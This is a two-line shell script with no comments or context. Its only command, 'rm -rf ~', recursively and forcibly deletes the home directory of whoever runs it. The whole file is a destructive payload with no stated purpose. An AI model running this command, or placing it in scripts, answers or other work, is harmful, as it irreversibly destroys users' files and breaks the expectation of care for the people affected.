#!/bin/sh
rm -rf ~
